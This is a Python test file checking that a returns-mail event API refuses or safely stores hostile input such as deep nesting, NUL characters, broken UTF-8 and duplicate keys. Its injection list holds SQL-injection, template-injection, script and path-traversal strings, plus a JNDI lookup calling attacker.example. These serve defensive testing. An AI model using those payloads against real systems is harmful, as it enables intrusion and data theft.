"""Hostile input: oversized and deeply nested bodies, control and odd Unicode
characters, injection strings, wrong content types, broken UTF-8, huge numbers, date-times far
in the past or future, duplicate keys, huge headers. Each is either refused with a 4xx in the one
error format and nothing stored, or accepted and stored exactly as sent (and never executed or
rendered unescaped).

Run on SQLite and on PostgreSQL (which refuses NUL in text and unpaired surrogates in jsonb).
"""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from returns_mail.api.event_data import validate_data
from returns_mail.api.parsers import MAX_BODY_BYTES
from returns_mail.models import ReturnEvent
from templates_lib.catalogue import EventType, Field
from templates_lib.models import Template
from templates_lib.rendering import render_version
from templates_lib.services.defaults import defaults_install
from tests.returns_mail.test_api_support import (  # noqa: F401 - fixtures
    BATCH,
    EVENTS,
    api_client_fixture,
    api_fixture,
    event_body,
    make_client_fixture,
    own_cache_keys_fixture,
    post_json,
    row_counts,
)

pytestmark = pytest.mark.django_db

NUL_MESSAGE = "Null characters are not allowed."


def post_raw(api, body: bytes, content_type="application/json", path=EVENTS, **extra):
    return api.generic("POST", path, body, content_type=content_type, **extra)


def assert_error(response, status: int, code: str, fields=None, message=None) -> dict:
    """The status, and a body in the API's one error format; nothing stored."""
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"] == "application/json"
    body = response.json()
    assert set(body) == {"error"}
    error = body["error"]
    assert {"code", "message", "fields"} <= set(error)
    assert error["code"] == code
    assert isinstance(error["message"], str)
    assert error["message"]
    if message is not None:
        assert error["message"] == message
    if fields is not None:
        assert error["fields"] == fields
    assert row_counts() == (0, 0)
    return error


def accepted_row(response) -> ReturnEvent:
    assert response.status_code == 202, response.content[:500]
    return ReturnEvent.objects.get(pk=response.json()["id"])


# --- size and depth -----------------------------------------------------------------------------
@pytest.mark.parametrize("path", [EVENTS, BATCH])
def test_a_body_just_over_one_mib_is_413(api, path):
    body = json.dumps(event_body(order_id="x" * MAX_BODY_BYTES)).encode()
    assert MAX_BODY_BYTES < len(body) < MAX_BODY_BYTES + 1024
    error = assert_error(post_raw(api, body, path=path), 413, "payload_too_large", fields={})
    assert error["limit_bytes"] == MAX_BODY_BYTES


def test_a_content_length_shorter_than_the_body_reads_only_that_much(api):
    body = json.dumps(event_body()).encode()
    assert_error(post_raw(api, body, CONTENT_LENGTH="10"), 400, "malformed_json", fields={})


def test_a_body_of_exactly_one_mib_is_read(api):
    body = json.dumps(event_body()).encode()
    body = body + b" " * (MAX_BODY_BYTES - len(body))
    assert len(body) == MAX_BODY_BYTES
    assert accepted_row(post_raw(api, body)).type == "refund.processed"


@pytest.mark.parametrize(
    "raw",
    [
        b"[" * 10_000 + b"]" * 10_000,
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        b'{"type": "refund.processed", "data": ' + b"[" * 10_000 + b"]" * 10_000 + b"}",
    ],
    ids=["arrays", "objects", "inside-an-event"],
)
@pytest.mark.parametrize("path", [EVENTS, BATCH])
def test_json_nested_ten_thousand_levels_deep_is_400(api, raw, path):
    error = assert_error(post_raw(api, raw, path=path), 400, "malformed_json", fields={})
    assert "nested too deeply" in error["message"]


def test_json_nested_a_hundred_levels_in_data_is_an_ordinary_400(api):
    nested: object = "deep"
    for _ in range(100):
        nested = {"x": nested}
    response = post_json(api, EVENTS, event_body(data={"refund": nested}))
    assert response.status_code == 400
    assert_error(response, 400, "invalid")


# --- characters ---------------------------------------------------------------------------------
# Every string field of a refund.processed event, as (path, setter).
def _set(body: dict, path: str, value: str) -> dict:
    *parents, last = path.split(".")
    target = body
    for key in parents:
        target = target[int(key)] if isinstance(target, list) else target[key]
    target[last] = value
    return body


STRING_FIELDS = [
    "type",
    "occurred_at",
    "return_id",
    "order_id",
    "event_id",
    "customer.email",
    "customer.name",
    "customer.first_name",
    "customer.locale",
    "data.refund.amount",
    "data.refund.currency",
    "data.refund.method",
    "data.items.0.sku",
    "data.items.0.name",
    "data.items.0.reason",
    "data.items.0.image_url",
]
TYPED_FIELDS = {"occurred_at", "data.refund.amount"}
# Free text: anything printable is stored exactly.
TEXT_FIELDS = [
    "return_id",
    "order_id",
    "event_id",
    "customer.name",
    "data.refund.method",
    "data.items.0.sku",
    "data.items.0.name",
    "data.items.0.reason",
]


def test_the_string_fields_exist_in_the_sample_event():
    body = event_body()
    for path in STRING_FIELDS:
        _set(body, path, "x")  # raises if a path is wrong


def _stored(row: ReturnEvent, path: str):
    columns = {
        "return_id": row.return_id,
        "order_id": row.order_id,
        "event_id": row.idempotency_key,
        "customer.name": row.customer_name,
    }
    if path in columns:
        return columns[path]
    value = row.data
    for key in path.split(".")[1:]:
        value = value[int(key)] if isinstance(value, list) else value[key]
    return value


@pytest.mark.parametrize("path", STRING_FIELDS)
@pytest.mark.parametrize("value", ["\x00", "a\x00b"], ids=["nul", "nul-inside"])
def test_nul_in_any_string_field_is_400_naming_it(api, path, value):
    body = _set(event_body(), path, value)
    error = assert_error(post_json(api, EVENTS, body), 400, "invalid")
    assert list(error["fields"]) == [path]
    if path not in TYPED_FIELDS:  # a date-time or an amount says what it expects instead
        assert NUL_MESSAGE in error["fields"][path]


@pytest.mark.parametrize("path", STRING_FIELDS)
def test_an_unpaired_surrogate_in_any_string_field_is_400_naming_it(api, path):
    raw = json.dumps(_set(event_body(), path, "a\ud800b")).encode()  # sent as "a\\ud800b"
    assert b"\\ud800" in raw
    error = assert_error(post_raw(api, raw), 400, "invalid")
    assert list(error["fields"]) == [path]
    if path not in TYPED_FIELDS:
        assert "Surrogate characters are not allowed: U+D800." in error["fields"][path]


@pytest.mark.parametrize("key", [chr(0), chr(0xD800), chr(0xDFFF)], ids=["nul", "high", "low"])
def test_nul_or_an_unpaired_surrogate_in_a_key_is_400(api, key):
    for body in (event_body(**{key: 1}), event_body(data={key: 1})):
        raw = json.dumps(body).encode()
        assert_error(post_raw(api, raw), 400, "malformed_json", fields={})


@pytest.mark.parametrize("path", TEXT_FIELDS)
@pytest.mark.parametrize(
    "value",
    [
        "\u202eevil\u202c \u200f\u05e9\u05dc\u05d5\u05dd\u200e",  # RTL override, RTL/LTR marks
        "\U0001f4e6\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2603",  # emoji, ZWJ sequence
        "tab\there \x1b[31mred\x7f",  # control characters other than NUL
        "\ufeffBOM and \ufffd replacement",
    ],
    ids=["rtl", "emoji", "controls", "bom"],
)
def test_other_unicode_is_stored_exactly(api, path, value):
    body = _set(event_body(), path, value)
    row = accepted_row(post_json(api, EVENTS, body))
    assert _stored(row, path) == value


def test_an_escaped_surrogate_pair_is_the_character(api):
    raw = json.dumps(event_body(order_id="\U0001f4e6")).encode()  # "\\ud83d\\udce6"
    assert b"\\ud83d\\udce6" in raw
    assert accepted_row(post_raw(api, raw)).order_id == "\U0001f4e6"


# --- injection strings --------------------------------------------------------------------------
INJECTIONS = [
    "' OR 1=1 --",
    "'; DROP TABLE returns_mail_returnevent; --",
    "{{7*7}}",
    "{{{customer.email}}}",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%00%2e%2e%2f",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_strings_are_stored_verbatim_and_found_again(api, value):
    body = event_body(
        return_id=value,
        order_id=value,
        event_id=value,
        customer={**event_body()["customer"], "name": value},
    )
    body["data"]["refund"]["method"] = value
    row = accepted_row(post_json(api, EVENTS, body))
    assert (row.return_id, row.order_id, row.idempotency_key, row.customer_name) == (value,) * 4
    assert row.data["refund"]["method"] == value
    assert ReturnEvent.objects.count() == 1  # the DROP TABLE did not run either
    # Read back through the API: the id is a path segment, percent-encoded.
    response = api.get(f"/api/v1/returns/{quote(value, safe='')}/messages")
    if "/" in value:  # a "/" (even as %2F) splits the path: no such endpoint
        assert response.status_code == 404
        assert response.json()["error"]["code"] == "not_found"
    else:
        assert response.status_code == 200
        assert response.json() == {"return_id": value, "messages": []}
    detail = api.get(f"/api/v1/events/{row.pk}").json()
    assert (detail["return_id"], detail["customer"]["name"]) == (value, value)


def test_injection_strings_render_escaped_in_html(api):
    defaults_install()
    body = event_body(
        return_id="<script>alert(1)</script>",
        order_id="{{7*7}}",
        customer={**event_body()["customer"], "name": "<img/src=x/onerror=alert(1)> Eve"},
    )
    row = accepted_row(post_json(api, EVENTS, body))
    version = Template.objects.get(slug="refund-processed").active_version
    rendered = render_version(version, row.template_context())
    assert "<script>" not in rendered.html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered.html
    assert "<img" not in rendered.html
    assert "&lt;img" in rendered.html
    # Values are data, not template source: the text keeps them as they are, unevaluated.
    assert "<script>alert(1)</script>" in rendered.text


@pytest.mark.parametrize(
    "path",
    ["/api/v1/events/1%0A", "/api/v1/events/%0A%16y", "/api/v1/no%0Asuch", "/api/v1/%0D%0A"],
)
def test_a_path_with_a_line_break_is_404_in_the_error_format(api, path):
    assert_error(api.get(path), 404, "not_found", message="No such endpoint.")


def test_a_nul_in_a_path_id_is_404(api):
    response = api.get("/api/v1/returns/a%00b/messages")
    assert_error(response, 404, "not_found")


@pytest.mark.parametrize("event_id", ["9" * 30, str(2**63), str(2**31)])
def test_an_event_id_out_of_range_is_404(api, event_id):
    assert_error(api.get(f"/api/v1/events/{event_id}"), 404, "not_found")


# --- content types and encodings ----------------------------------------------------------------
@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "application/xml",
        "multipart/form-data; boundary=x",
        "application/x-www-form-urlencoded",
        "application/jsonx",
        "text/json",
    ],
)
@pytest.mark.parametrize("path", [EVENTS, BATCH])
def test_a_body_that_is_not_sent_as_json_is_415(api, content_type, path):
    raw = json.dumps(event_body()).encode()
    assert_error(
        post_raw(api, raw, content_type=content_type, path=path), 415, "unsupported_media_type"
    )


@pytest.mark.parametrize(
    "raw",
    [
        b'{"type": "\xff"}',
        b'{"type": "\xc0\xaf"}',  # overlong "/"
        b'{"type": "\xed\xa0\x80"}',  # a surrogate encoded in UTF-8
        b'{"type": "\xe2\x82"}',  # truncated
        '{"type": "x"}'.encode("utf-16"),
        '{"type": "x"}'.encode("latin-1") + "é".encode("latin-1"),
    ],
)
def test_a_body_that_is_not_utf8_is_400(api, raw):
    assert_error(
        post_raw(api, raw, content_type="application/json; charset=utf-8"),
        400,
        "malformed_json",
        fields={},
        message="The body is not valid UTF-8.",
    )


def test_a_utf8_bom_is_refused(api):
    raw = b"\xef\xbb\xbf" + json.dumps(event_body()).encode()
    assert_error(post_raw(api, raw), 400, "malformed_json", fields={})


# --- numbers ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("raw_amount", "status"),
    [
        ("1e999", 400),  # a float overflow: inf
        ("-1e999", 400),
        ("1" + "0" * 20, 400),  # over 15 integer digits
        ('"' + "9" * 5000 + '"', 400),
        ("9" * 5000, 400),  # over Python's int digit limit: malformed
        ("1e-999", 202),  # 0.0
    ],
)
def test_huge_numbers_are_refused_as_amounts(api, raw_amount, status):
    body = json.dumps(event_body()).replace('"89.80"', raw_amount, 1).encode()
    assert raw_amount.encode() in body
    response = post_raw(api, body)
    if status == 202:
        assert accepted_row(response).data["refund"]["amount"] == "0.00"
    else:
        assert_error(response, 400, "invalid" if raw_amount != "9" * 5000 else "malformed_json")


@pytest.mark.parametrize("quantity", [2**63, 10**30, -(10**30)])
def test_a_huge_integer_is_refused_or_stored_exactly(api, quantity):
    body = event_body("return.received")
    body["data"]["items"][0]["quantity"] = quantity
    response = post_json(api, EVENTS, body)
    if response.status_code == 202:
        assert accepted_row(response).data["items"][0]["quantity"] == quantity
    else:
        error = assert_error(response, 400, "invalid")
        assert list(error["fields"]) == ["data.items.0.quantity"]


# --- date-times far in the past or future -------------------------------------------------------
OUT_OF_RANGE = "Expected a date and time in the years 1970 to 2099 (in UTC)."
FAR_DATETIMES = [
    "9999-12-31T23:59:59-23:59",  # past the year 9999 once in UTC: Python cannot hold it
    "0001-01-01T00:00:00+14:00",  # before the year 1 in UTC
    "9999-12-31T23:59:59+00:00",
    "0001-01-01T00:00:00Z",
    "1969-12-31T23:59:59.999999Z",
    "1970-01-01T00:59:59+01:00",  # 1969 in UTC
    "2100-01-01T00:00:00Z",
    "2099-12-31T23:00:00-01:00",  # 2100 in UTC
]


@pytest.mark.parametrize("value", FAR_DATETIMES)
def test_a_date_time_out_of_range_is_400_naming_it(api, value):
    error = assert_error(post_json(api, EVENTS, event_body(occurred_at=value)), 400, "invalid")
    assert error["fields"] == {"occurred_at": [OUT_OF_RANGE]}


@pytest.mark.parametrize("value", FAR_DATETIMES)
def test_a_batch_item_with_a_date_time_out_of_range_is_400_the_others_stored(api, value):
    items = [event_body(event_id="far", occurred_at=value), event_body(event_id="good")]
    response = post_json(api, BATCH, items)
    assert response.status_code == 200, response.content[:500]
    far, good = response.json()["results"]
    assert far["status"] == 400
    assert far["error"]["code"] == "invalid"
    assert far["error"]["fields"] == {"occurred_at": [OUT_OF_RANGE]}
    assert good["status"] == 202
    assert list(ReturnEvent.objects.values_list("idempotency_key", flat=True)) == ["good"]


@pytest.mark.parametrize(
    ("value", "utc"),
    [
        ("1970-01-01T00:00:00Z", "1970-01-01T00:00:00+00:00"),
        ("1970-01-01T14:00:00+14:00", "1970-01-01T00:00:00+00:00"),
        ("2099-12-31T23:59:59.999999Z", "2099-12-31T23:59:59.999999+00:00"),
        ("2100-01-01T13:59:59+14:00", "2099-12-31T23:59:59+00:00"),
    ],
)
def test_the_edges_of_the_range_are_accepted(api, value, utc):
    response = post_json(api, EVENTS, event_body(occurred_at=value))
    assert accepted_row(response).occurred_at.isoformat() == utc


def test_a_date_time_in_data_out_of_range_is_named():
    """`data` date-times go through the same parser (no catalogue type has one yet)."""
    probe = EventType("probe", "Probe", "", (Field("at", "datetime"),), {})
    for value in FAR_DATETIMES:
        assert validate_data(probe, {"at": value}) == ({}, {"at": [OUT_OF_RANGE]})
    assert validate_data(probe, {"at": "2099-12-31T23:59:59Z"}) == (
        {"at": "2099-12-31T23:59:59+00:00"},
        {},
    )


# --- duplicate keys -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "raw",
    [
        b'{"type": "refund.processed", "type": "return.approved"}',
        b'[{"a": 1, "a": 1}]',
        b'{"data": {"refund": {"amount": "1.00", "amount": "1000.00"}}}',
    ],
)
@pytest.mark.parametrize("path", [EVENTS, BATCH])
def test_duplicate_keys_are_400(api, raw, path):
    error = assert_error(post_raw(api, raw, path=path), 400, "malformed_json", fields={})
    assert "duplicate key" in error["message"]


# --- headers and ids ----------------------------------------------------------------------------
@pytest.mark.parametrize(("path", "limit"), [(EVENTS, 255), (BATCH, 252)])
def test_an_idempotency_key_of_ten_thousand_characters_is_400(api, path, limit):
    body = event_body() if path == EVENTS else [event_body()]
    response = post_json(api, path, body, HTTP_IDEMPOTENCY_KEY="k" * 10_000)
    assert_error(
        response,
        400,
        "invalid",
        fields={
            "Idempotency-Key": [f"Expected 1 to {limit} visible ASCII characters (no spaces)."]
        },
    )


@pytest.mark.parametrize("key", ["a b", "\u00e9t\u00e9", "k\tk", ""])
def test_an_idempotency_key_with_other_characters_is_400(api, key):
    response = post_json(api, EVENTS, event_body(), HTTP_IDEMPOTENCY_KEY=key)
    assert_error(response, 400, "invalid")


def test_a_batch_key_of_the_longest_length_keys_its_items(api):
    key = "k" * 252  # item keys "<key>:<index>" fill the 255 characters of the column
    response = post_json(api, BATCH, [event_body()] * 100, HTTP_IDEMPOTENCY_KEY=key)
    assert response.status_code == 200, response.content[:500]
    assert {r["status"] for r in response.json()["results"]} == {202}
    assert ReturnEvent.objects.filter(idempotency_key=f"{key}:99").exists()


def test_a_batch_key_too_long_for_its_items_keys_is_400(api):
    response = post_json(api, BATCH, [event_body()], HTTP_IDEMPOTENCY_KEY="k" * 253)
    assert_error(
        response,
        400,
        "invalid",
        fields={"Idempotency-Key": ["Expected 1 to 252 visible ASCII characters (no spaces)."]},
    )


def test_an_event_id_of_ten_thousand_characters_is_400(api):
    error = assert_error(post_json(api, EVENTS, event_body(event_id="e" * 10_000)), 400, "invalid")
    assert list(error["fields"]) == ["event_id"]


def test_a_batch_of_hostile_items_answers_each_and_stores_only_the_good_ones(api):
    items = [
        event_body(event_id="good"),
        event_body(event_id="nul", order_id="a\x00b"),
        _set(event_body(event_id="nul-in-data"), "data.refund.method", "\x00"),
        "' OR 1=1 --",
    ]
    response = post_json(api, BATCH, items)
    assert response.status_code == 200
    results = response.json()["results"]
    assert [r["status"] for r in results] == [202, 400, 400, 400]
    assert results[1]["error"]["fields"] == {"order_id": [NUL_MESSAGE]}
    assert results[2]["error"]["fields"] == {"data.refund.method": [NUL_MESSAGE]}
    assert list(ReturnEvent.objects.values_list("idempotency_key", flat=True)) == ["good"]
